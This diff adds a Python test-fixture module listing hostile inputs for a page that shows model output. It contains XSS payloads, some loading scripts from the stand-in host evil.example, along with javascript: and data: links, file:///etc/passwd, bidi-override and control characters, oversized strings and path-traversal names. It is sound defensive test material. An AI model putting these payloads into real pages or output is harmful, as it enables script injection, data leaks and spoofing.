@@ -1,0 +1,147 @@
+"""A hundred texts as a model or an environment could write them to run a script or to break the page."""
+
+from __future__ import annotations
+
+RUN = "window.pwned=1;top.pwned=1"
+"""A script that a text must never run."""
+
+MARKUP = (
+    f"<script>{RUN}</script>",
+    f"</script><script>{RUN}</script>",
+    f"<SCRIPT SRC=http://evil.example/x.js>{RUN}</SCRIPT>",
+    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    f"</textarea><script>{RUN}</script>",
+    f"</title><script>{RUN}</script>",
+    f"</style><script>{RUN}</script>",
+    f"</noscript><script>{RUN}</script>",
+    f"</template><script>{RUN}</script>",
+    f"</pre></code></div></main></body><script>{RUN}</script>",
+    f"--><script>{RUN}</script><!--",
+    f"<!--<script>{RUN}//-->",
+    f"]]><script>{RUN}</script><![CDATA[",
+    f"<?xml version='1.0'?><script>{RUN}</script>",
+    f"<img src=x onerror={RUN}>",
+    f"<img src='x' onerror='{RUN}'",
+    f'"><img src=x onerror="{RUN}">',
+    f"'><img src=x onerror='{RUN}'>",
+    f"` onmouseover={RUN} x=`",
+    f'" onfocus="{RUN}" autofocus tabindex="1',
+    f"' onclick='{RUN}' x='",
+    f"<body onload={RUN}>",
+    f"<svg onload={RUN}>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
+    "<svg><use href='http://evil.example/x.svg#y'/></svg>",
+    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
+    f"<details open ontoggle={RUN}>x</details>",
+    f"<video><source onerror={RUN}></video>",
+    f"<audio src=x onerror={RUN}>",
+    f"<input autofocus onfocus={RUN}>",
+    f"<select autofocus onfocus={RUN}>",
+    f"<marquee onstart={RUN}>x</marquee>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    f"<iframe src='javascript:parent.{RUN}'></iframe>",
+    f"<object data='javascript:{RUN}'></object>",
+    f"<embed src='data:text/html,<script>parent.{RUN}</script>'>",
+    "<link rel=stylesheet href=http://evil.example/x.css>",
+    "<link rel=prefetch href=http://evil.example/x>",
+    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
+    "<base href='http://evil.example/'>",
+    "<form action='http://evil.example/'><button>send</button></form>",
+    "<style>body{display:none!important}*{position:fixed}</style>",
+    "<style>@import 'http://evil.example/x.css';</style>",
+    "<div style='position:fixed;inset:0;background:red;z-index:99999'>over all</div>",
+    "<plaintext>",
+    "<img src='http://evil.example/pixel.png'>",
+    "<a href='http://evil.example/' ping='http://evil.example/ping'>click</a>",
+    "<dialog open>are you sure?</dialog>",
+    "</td></tr></table><h1>outside</h1>",
+)
+
+LINKS = (
+    f"javascript:{RUN}",
+    f"JaVaScRiPt:{RUN}",
+    f"java\tscript:{RUN}",
+    f"java\nscript:{RUN}",
+    f"[click](javascript:{RUN})",
+    f"![x](javascript:{RUN})",
+    "![x](http://evil.example/x.png)",
+    "[x]: http://evil.example/ 'title'",
+    f"<javascript:{RUN}>",
+    f"data:text/html,<script>{RUN}</script>",
+    "data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==",
+    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
+    f"vbscript:{RUN}",
+    "file:///etc/passwd",
+    "//evil.example/x.js",
+    "http://evil.example/?q=#frag",
+)
+
+CONTROLS = (
+    "\u202egnp.exe\u202c right to left override",
+    "\u2066\u2067\u2068 isolates without an end",
+    "\u202a\u202b\u202d embeddings without an end",
+    "\u200b\u200c\u200d\u2060\ufeff zero width",
+    "a\u00adb\u034fc\u061cd invisible",
+    "\u200f\u200e marks",
+    "".join(chr(0xE0000 + ord(letter)) for letter in "tags hide text"),
+    "a\ud800b lone surrogate",
+    "\udfff\ud83d lone surrogates",
+    "null \x00 byte \x00",
+    "\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x1b\x7f",
+    "\x1b[31mred\x1b[0m\x1b[2J\x1b]0;title\x07\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
+    "return\rover\r\nlines\u2028and\u2029paragraphs\x85",
+    "\ufff9annotation\ufffahidden\ufffb",
+    "\u3164\u115f\u1160\uffa0 fillers",
+    "e" + "\u0301" * 2000 + " flood of accents",
+    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d" * 40 + " zalgo",
+    "\u0e01" + "\u0e49" * 300 + " flood of tone marks",
+    "👨‍👩‍👧‍👦" * 50,
+    "\U000e0001\U000e007f language tags",
+    "שלום עולם, this is mixed: (1) < 2",
+    "مرحبا بالعالم 123 " * 20,
+    "\ufdfd" * 60,
+    "𒐫" * 80,
+)
+
+SIZES = (
+    "x" * 1_000_000,
+    "word " * 200_000,
+    "W" * 30_000 + "\n" + "i" * 30_000,
+    "\n" * 5_000,
+    "line\n" * 5_000,
+    " " * 100_000 + "far right",
+    "\t" * 2_000 + "tabs",
+    "{" * 10_000 + "}" * 10_000,
+    "&lt;&#60;&#x3c;&amp;lt;" * 20,
+)
+
+TEXTS = (*MARKUP, *LINKS, *CONTROLS, *SIZES)
+
+NAMES = (
+    "a/b/../../c",
+    "..",
+    "%2e%2e%2f%00",
+    "q?x=1&y=2#hash",
+    "100 % 'quoted' \"twice\" `thrice`",
+    "back\\slash",
+    "$& $1 ${x}",
+    "__proto__",
+    "constructor",
+    " ",
+    "%",
+    "/",
+    "+plus +",
+    "line\nbreak",
+)
+"""Names of tasks and environments that an address or a table could take for something else."""
+
+RUN_NAMES = (
+    "<img src=x onerror=window.pwned=1>",
+    "q?x=1&y=2#hash %2f 'a' \"b\"",
+    "\u202egnp.nur",
+    "x%2f..%2f..",
+    "n" * 200,
+)
+"""Names of folders of runs."""
